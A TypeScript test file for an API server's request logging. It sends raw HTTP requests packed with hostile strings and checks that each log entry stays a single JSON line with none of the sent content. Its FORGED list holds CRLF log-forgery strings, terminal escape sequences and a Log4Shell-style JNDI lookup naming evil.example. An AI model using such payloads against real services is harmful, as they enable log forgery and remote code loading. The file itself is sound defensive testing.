import { once } from 'node:events';
import { connect } from 'node:net';
import fc from 'fast-check';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { hostile } from '../fuzz/corpus.js';
import { testConfig, testDeps, tokenOf } from '../test/support/api.js';
import { createDatabase, type TestDatabase } from '../test/support/database.js';
import { createApp } from './app.js';
import type { Deps } from './deps.js';
import { startApi, type ApiServer } from './server.js';

/** Whatever stands in a request, the log has one line of JSON for it, and nothing of what was sent. */

const written: string[] = [];
let database: TestDatabase;
let deps: Deps;
let api: ApiServer;
let token: string;
beforeAll(async () => {
  database = await createDatabase();
  const config = testConfig(database.appUrl, { checkClock: false });
  deps = testDeps(database.appUrl, { config }, { write: (text: string) => void written.push(text) });
  api = await startApi(deps);
  token = await tokenOf(createApp(deps), 'intake');
});
afterAll(async () => {
  await api.close();
  await deps.db.close();
  await database.drop();
});

/** Stands in everything that is sent. */
const MARK = 'zz-of-the-sender-zz';
/** Ends of lines in every way there is, signs that a terminal obeys, and a line as the log itself would have it. */
const FORGED = [
  '\r\n{"level":50,"msg":"request failed"}\r\n',
  '\n{"level":30,"msg":"answered","user":"director","status":200}\n',
  '\r{"level":30}\r',
  '\u001b[2J\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u009b31m',
  '\u0085{"level":30}\u0085',
  '\u2028{"level":30}\u2029',
  '\u0000\b\u007f',
  '%0d%0a{"level":50}',
  '\\r\\n{"level":50}',
  '"}\n{"level":50,"msg":"x',
  '${jndi:ldap://evil.example/a}',
  '\u202e]drawkcab[',
];

async function say(text: string): Promise<void> {
  const socket = connect(api.port, '127.0.0.1');
  socket.on('error', () => undefined);
  socket.resume();
  await once(socket, 'connect');
  const closed = once(socket, 'close');
  socket.end(Buffer.from(text, 'utf8'));
  await closed;
}

/** The same text in the place of each part of a request; what is no request any more is answered as such. */
function requestsWith(text: string): string[] {
  const marked = `${text}${MARK}`;
  const escaped = encodeURIComponent(marked.replaceAll(/\p{Surrogate}/gu, '?'));
  const headers = (more: string) => `Host: x\r\nConnection: close\r\nAuthorization: Bearer ${token}\r\n${more}`;
  const post = (path: string, body: string, more = '') =>
    `POST ${path} HTTP/1.1\r\n${headers(`${more}Idempotency-Key: k\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n`)}\r\n${body}`;
  const named = [
    'User-Agent',
    'X-Forwarded-For',
    'Accept-Language',
    'Referer',
    'X-Request-Id',
    'If-None-Match',
    'Cookie',
  ];
  return [
    `GET /api/v1/cases/${escaped}?q=${escaped}&${escaped}=1 HTTP/1.1\r\n${headers('')}\r\n`,
    `GET /${escaped}/%0d%0a HTTP/1.1\r\n${headers('')}\r\n`,
    `GET /api/v1/tasks HTTP/1.1\r\n${headers(named.map((name) => `${name}: ${marked}\r\n`).join(''))}\r\n`,
    `GET /api/v1/tasks HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer ${marked}\r\n\r\n`,
    `GET /api/v1/tasks?${marked} HTTP/1.1\r\n${headers('')}\r\n`,
    `${marked} /api/v1/tasks HTTP/1.1\r\n${headers('')}\r\n`,
    post('/api/v1/sessions', JSON.stringify({ username: marked.slice(-64), password: marked })),
    post('/api/v1/applications', JSON.stringify({ [marked]: marked, narrative: marked, channel: marked })),
    post('/api/v1/applications', marked),
    post('/api/v1/me/tour', '{"seen":true}', `Idempotency-Key: ${marked}\r\n`),
  ];
}

test('one line for each request, as the service writes it, and nothing of the sender in it', async () => {
  const texts = [...FORGED, ...fc.sample(hostile, { numRuns: 60, seed: 3 }).map((text) => text.slice(0, 2_000))];
  const requests = texts.flatMap(requestsWith);
  const from = written.length;
  for (const text of requests) await say(text);
  const lines = written.slice(from);
  expect(lines.length).toBeGreaterThan(texts.length * 3);
  // What was sent along after the end of a request is another one, by the same hand: no more than were sent.
  expect(lines.length).toBeLessThanOrEqual(requests.length * 2);
  for (const line of lines) {
    expect(line).toMatch(/^\{[^\n\r]*\}\n$/);
    // Neither raw nor as an escape: nothing that a terminal obeys, or that ends a line somewhere.
    expect(line.slice(0, -1)).not.toMatch(/[\p{Cc}\p{Cf}\u2028\u2029]|\\u00[01]|\\[nrbf]/u);
    expect(line).not.toContain(MARK);
    const said = JSON.parse(line) as Record<string, unknown>;
    const names = ['level', 'time', 'pid', 'name', 'req', 'method', 'route', 'status', 'problem', 'ms', 'user', 'msg'];
    expect(Object.keys(said).filter((name) => !names.includes(name))).toEqual([]);
    expect([30, undefined]).toContain(said['level']);
    expect(String(said['user'] ?? 'intake')).toBe('intake');
    expect(String(said['route'] ?? '/api/v1')).toMatch(/^\/api\/v1/);
    expect(String(said['method'])).toMatch(/^[A-Z-]{3,12}$/);
  }
});
